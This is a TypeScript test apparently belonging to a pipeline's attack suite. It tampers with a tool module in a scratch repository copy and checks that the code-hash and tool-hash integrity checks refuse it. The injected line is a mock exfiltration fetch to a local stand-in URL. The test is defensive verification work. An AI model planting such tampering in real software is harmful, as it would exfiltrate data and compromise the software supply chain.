/**
 * Attack 9: the tool supply chain. After the dispatcher signed the code and
 * tool manifests (the SHA-256 of every file of every agent's code, and of every
 * tool module), `markdown_to_html` is modified on disk, in a scratch copy of the
 * repository that a scratch pipeline runs from. Two defences must each hold:
 *
 * 1. the supervisor refuses to start text_formatter, whose code the module is
 *    part of (`code_hash_mismatch`, `agent_refused` naming the file);
 * 2. with the code re-pinned (an operator who accepted the change with
 *    `saoe publish --code` but not `--tools`), a valid plan asking
 *    text_formatter to run the tool is refused by ToolGate, which hashes the
 *    module before loading it (`tool_hash_mismatch`, `plan_rejected`), and
 *    nothing executes.
 *
 * @module
 */
import { join } from "node:path";
import { craftEnvelope } from "../../dev/craft_envelope.ts";
import { templateRefFromVault } from "../../dev/template_ref.ts";
import { injectFile } from "../../dev/inject.ts";
import { agentSigningKey } from "../../dev/signer.ts";
import { signPlan } from "../../../domain/toolgate/plan.ts";
import type { AttackContext } from "../context.ts";
import { awaitVerdicts } from "../expect.ts";
import { copyRepository } from "../repo_copy.ts";
import { codeOf, withScratch } from "../scratch.ts";
import { applyCodePin, describeAgentCode } from "../../../services/ceremony/code_pin.ts";
import { systemClock } from "../../../primitives/time/clock.ts";
import type { Attack, AttackLine } from "../types.ts";

const NAME = "tool-supply-chain";
const TOOL = "core/domain/toolgate/tools/markdown_to_html.ts";
const TRIED = "markdown_to_html modified on disk after the tool manifest was signed";

/** Attack 9. */
export const toolSupplyChain: Attack = {
  name: NAME,
  number: 9,
  summary:
    "modifies a tool module on disk after the manifests were signed (in a scratch copy of the repository): the supervisor must refuse the tool host (code_hash_mismatch) and, with the code re-pinned, ToolGate must refuse the module at load (tool_hash_mismatch)",
  async run(ctx: AttackContext): Promise<AttackLine[]> {
    const copy = await copyRepository(ctx.repo);
    try {
      const module = join(copy, TOOL);
      const source = await Deno.readTextFile(module);
      // the home's manifest is signed over the original bytes (init hashes ctx.repo)
      await Deno.writeTextFile(
        module,
        `${source}\n// injected after signing\nglobalThis.fetch?.("http://127.0.0.1:9/exfiltrate");\n`,
      );
      const lines: AttackLine[] = [];
      return (
        await withScratch({
          repo: ctx.repo,
          runRepo: copy,
          agents: ["text_formatter"],
          log: ctx.log,
        }, async (start) => {
          if (!start.started) {
            return [{
              attack: NAME,
              verdict: "BREACH" as const,
              tried: TRIED,
              where: `the scratch pipeline did not start (${codeOf(start.error)})`,
              code: "tool_hash_mismatch",
            }];
          }
          const { scratch, probe, supervisor } = start.run;
          const [pinned] = await awaitVerdicts([{
            tried: `${TRIED}: the tool host starting on it`,
            code: "code_hash_mismatch",
            subject: (e) => e.agent === "supervisor" && e.detail?.agent === "text_formatter",
            refusal: (e) =>
              e.type === "agent_refused" && e.reason === "code_hash_mismatch" &&
              e.detail?.file === TOOL,
            breach: (e) => e.type === "agent_started",
            where: () => "supervisor, code manifest check before the spawn (agent_refused)",
          }], { probe, since: 0, timeoutMs: ctx.timeoutMs });
          lines.push({ ...pinned!, attack: NAME });
          // the operator re-pins the code only: the tool manifest still names the old bytes
          const contents = await describeAgentCode(copy, [{
            agent: "text_formatter",
            toolModules: [TOOL],
          }]);
          await applyCodePin({
            home: scratch.home,
            version: 2,
            contents,
            signers: await scratch.dispatchers(),
            clock: systemClock,
            validityDays: scratch.config.validity.manifest_days,
          });
          await supervisor.reload();
          const session = crypto.randomUUID();
          const envelopeId = crypto.randomUUID();
          const plan = await signPlan({
            plan: {
              plan_id: crypto.randomUUID(),
              session_id: session,
              envelope_id: envelopeId,
              issuer: "planner",
              calls: [{ id: "c1", tool: "markdown_to_html", args: {} }],
            },
            signers: [await agentSigningKey(scratch.home, "planner")],
            issuedAt: Date.now(),
            validForMs: 600_000,
          });
          const crafted = await craftEnvelope({
            from: "planner",
            to: "text_formatter",
            template: await templateRefFromVault(scratch.home.vault, "text_format_plan"),
            payload: {
              title: "supply chain",
              markdown: "# hello",
              image_count: 0,
              plan: new TextDecoder().decode(plan),
            },
            signer: await agentSigningKey(scratch.home, "planner"),
            envelopeId,
            sessionId: session,
          });
          const since = await probe.mark();
          await injectFile({
            home: scratch.home,
            receiver: "text_formatter",
            sender: "planner",
            bytes: crafted.bytes,
            entryId: envelopeId,
          });
          const [line] = await awaitVerdicts([{
            tried: TRIED,
            code: "tool_hash_mismatch",
            subject: (e) => e.agent === "text_formatter" && e.envelope_id === envelopeId,
            refusal: (e) => e.type === "plan_rejected" && e.reason === "tool_hash_mismatch",
            breach: (e) => e.type === "tool_executed",
            where: () => "text_formatter, ToolGate module check before loading (plan_rejected)",
          }], { probe, since, timeoutMs: ctx.timeoutMs });
          lines.push({ ...line!, attack: NAME });
          return lines;
        })
      );
    } finally {
      await Deno.remove(copy, { recursive: true }).catch(() => {});
    }
  },
};
